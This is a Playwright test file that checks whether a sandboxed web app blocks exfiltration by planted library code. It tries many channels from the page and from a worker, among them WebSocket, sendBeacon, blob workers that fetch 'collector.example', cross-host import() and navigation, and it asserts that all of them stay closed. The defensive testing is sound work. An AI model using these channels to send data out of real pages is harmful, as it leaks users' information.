/** Code that somebody planted in a library tries every way out; what is closed is shown closed here. */
import type { Page, Worker } from '@playwright/test';
import { expect, leaked, PROBE, processFile, test, untilOffline } from './guarded.ts';

/** Another host, which nobody owns; what is sent there would be seen as a request. */
const ELSEWHERE = 'http://collector.example';

/** How each way ended: `closed`, or what it gave. */
type Outcomes = Record<string, string>;

interface Probe {
  probe: string;
  elsewhere: string;
}

/** Runs in the page: ways that are closed by a lock, and answer at once. */
async function tryThePage({ probe, elsewhere }: Probe): Promise<Outcomes> {
  const ways: Record<string, () => unknown> = {
    RTCPeerConnection: () =>
      new RTCPeerConnection({ iceServers: [{ urls: `stun:${probe}.example` }] }),
    Worker: () => new Worker(`/assets/x.js?${probe}`),
    'Worker, from a blob': () =>
      new Worker(URL.createObjectURL(new Blob([`fetch("${elsewhere}")`]))),
    SharedWorker: () => new SharedWorker(`/x.js?${probe}`),
    FontFace: () => new FontFace('x', `url(/x?${probe})`).load(),
    'caches.open': async () => (await caches.open('x')).add(`/x?${probe}`),
    'Cache.prototype.add': async () => {
      const [name] = await caches.keys();
      if (!name) throw new TypeError('no cache');
      await Cache.prototype.add.call(await CacheStorage.prototype.open.call(caches, name), '/x');
    },
    XMLHttpRequest: () => new XMLHttpRequest(),
    WebSocket: () => new WebSocket(`ws://${probe}.example`),
    EventSource: () => new EventSource(`/x?${probe}`),
    sendBeacon: () => navigator.sendBeacon('/x', probe),
    'sendBeacon of the prototype': () =>
      Navigator.prototype.sendBeacon.call(navigator, '/x', probe),
    'window.open': () => window.open(`${elsewhere}/?${probe}`),
    'register sw.js with text': () => navigator.serviceWorker.register(`/sw.js?${probe}`),
    'import() from another host': () => import(/* @vite-ignore */ `${elsewhere}/${probe}.js`),
    cookie: () => {
      document.cookie = `x=${probe}`;
      if (document.cookie === '') throw new TypeError('no cookie');
    },
  };
  const outcomes: Outcomes = {};
  for (const [name, way] of Object.entries(ways)) {
    try {
      outcomes[name] = `open: ${String(await way())}`;
    } catch {
      outcomes[name] = 'closed';
    }
  }
  return outcomes;
}

/** Runs in the page: ways to leave it, none of which may get anywhere. */
async function tryToLeave({ probe, elsewhere }: Probe): Promise<void> {
  const link = (attributes: Record<string, string>) => {
    const anchor = Object.assign(document.createElement('a'), attributes);
    document.body.append(anchor);
    anchor.click();
    anchor.remove();
  };
  const ways = [
    () => location.assign(`${elsewhere}/?${probe}`),
    () => location.replace(`/?${probe}=${'x'.repeat(80)}`),
    () => {
      location.href = `${elsewhere}/${probe}`;
    },
    () => link({ href: `${elsewhere}/?${probe}` }),
    () => link({ href: `${elsewhere}/?${probe}`, download: 'x' }),
    () => link({ href: `/${probe}.txt?${probe}`, download: 'x' }),
    () => link({ href: '#x', ping: `/x?${probe}` }),
  ];
  for (const way of ways) {
    way();
    await new Promise((resolve) => setTimeout(resolve, 150));
  }
}

/** Runs in the engine. */
async function tryTheEngine({ probe, elsewhere }: Probe): Promise<Outcomes> {
  const of = (name: string): new (...args: unknown[]) => unknown => Reflect.get(globalThis, name);
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(`/x?${probe}`),
    'fetch of the prototype': () => {
      const holder = Reflect.get(globalThis, 'WorkerGlobalScope').prototype;
      return (holder.fetch ?? Reflect.get(globalThis, 'fetch')).call(globalThis, `/x?${probe}`);
    },
    XMLHttpRequest: () => new (of('XMLHttpRequest'))(),
    WebSocket: () => new (of('WebSocket'))(`ws://${probe}.example`),
    EventSource: () => new (of('EventSource'))(`/x?${probe}`),
    WebTransport: () => new (of('WebTransport'))(`https://${probe}.example`),
    importScripts: () => Reflect.get(globalThis, 'importScripts')(`/x?${probe}`),
    Worker: () => new (of('Worker'))(`/x.js?${probe}`),
    'Worker, from a blob': () =>
      new (of('Worker'))(URL.createObjectURL(new Blob([`fetch("${elsewhere}/?${probe}")`]))),
    FontFace: () => new (of('FontFace'))('x', `url(/x?${probe})`),
    caches: async () => (await caches.open('x')).add(`/x?${probe}`),
    storageBuckets: () => Reflect.get(navigator, 'storageBuckets').open('x'),
    'import() from another host': () => import(/* @vite-ignore */ `${elsewhere}/${probe}.js`),
  };
  const outcomes: Outcomes = {};
  for (const [name, way] of Object.entries(ways)) {
    try {
      outcomes[name] = `open: ${String(await way())}`;
    } catch {
      outcomes[name] = 'closed';
    }
  }
  return outcomes;
}

const PROBES: Probe = { probe: PROBE, elsewhere: ELSEWHERE };

const open = (outcomes: Outcomes) =>
  Object.entries(outcomes).filter(([, outcome]) => outcome !== 'closed');

async function engineOf(page: Page): Promise<Worker> {
  await processFile(page);
  return page.workers()[0]!;
}

async function tryAll(page: Page): Promise<void> {
  const address = page.url();
  expect(open(await page.evaluate(tryThePage, PROBES)), 'open in the page').toEqual([]);
  const engine = await engineOf(page);
  expect(open(await engine.evaluate(tryTheEngine, PROBES)), 'open in the engine').toEqual([]);
  await page.evaluate(tryToLeave, PROBES);
  await page.waitForTimeout(300);
  expect(page.url().split('#')[0], 'the page stays').toBe(address);
}

test.use({ provokes: true });

test('on the first visit, before there is a service worker', async ({ page, home, server }) => {
  await page.addInitScript(() => {
    // Keeps it the first visit for as long as the test takes.
    Object.defineProperty(navigator.serviceWorker, 'register', {
      value: () => Promise.reject(new Error('kept off')),
    });
  });
  await page.goto(home);
  await tryAll(page);
  expect(leaked(server)).toEqual([]);
});

test(
  'on later visits, also by what only a service worker can refuse',
  { tag: '@thorough' },
  async ({ page, home, server }) => {
    await page.goto(home);
    await untilOffline(page);
    await page.reload();
    await tryAll(page);
    const [own] = await page.evaluate(() =>
      [...document.scripts].map(({ src }) => src).filter((src) => src.includes('/assets/')),
    );
    await page.evaluate(
      async ({ probe, own }) => {
        const add = (tag: 'link' | 'script' | 'style', attributes: object) =>
          document.head.append(Object.assign(document.createElement(tag), attributes));
        add('link', { rel: 'prefetch', href: `/assets/${probe}.js` });
        add('link', { rel: 'stylesheet', href: `/x.css?${probe}` });
        add('link', { rel: 'manifest', href: `/x.webmanifest?${probe}` });
        add('script', { src: `/early.js?${probe}` });
        for (const address of [
          `/assets/${probe}.js`,
          `${own}?${probe}`,
          `${own}?utm_source=${probe}`,
        ]) {
          await import(/* @vite-ignore */ address).catch(() => {});
        }
        location.assign(`/?utm_source=${probe}`);
      },
      { probe: PROBE, own: own! },
    );
    await page.waitForTimeout(1000);
    expect(leaked(server)).toEqual([]);
  },
);

test(
  'on an origin that is not secure, where no service worker ever comes',
  { tag: '@thorough' },
  async ({ page, server }) => {
    await page.goto(`http://resume.test:${server.port}/`);
    expect(await page.evaluate(() => isSecureContext)).toBe(false);
    await tryAll(page);
    expect(leaked(server)).toEqual([]);
  },
);

test(
  'what stays open is what the decision note lists',
  { tag: '@thorough' },
  async ({ page, home, server }) => {
    await page.addInitScript(() => {
      Object.defineProperty(navigator.serviceWorker, 'register', {
        value: () => Promise.reject(new Error('kept off')),
      });
    });
    await page.goto(home);
    await page.evaluate(async (probe) => {
      await import(/* @vite-ignore */ `/assets/${probe}-import.js`).catch(() => {});
      const style = Object.assign(document.createElement('link'), {
        rel: 'stylesheet',
        href: `/assets/${probe}-style.css`,
      });
      document.head.append(style);
    }, PROBE);
    const inFrame = await page.evaluate(() => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      return typeof Reflect.get(frame.contentWindow!, 'RTCPeerConnection');
    });
    expect(inFrame).toBe('function');
    await page.waitForTimeout(500);
    // To the own host only, as the name of a file that it does not have.
    expect(leaked(server)).toEqual([
      `GET /assets/${PROBE}-import.js 0 bytes`,
      `GET /assets/${PROBE}-style.css 0 bytes`,
    ]);
    server.requests.length = 0;
  },
);
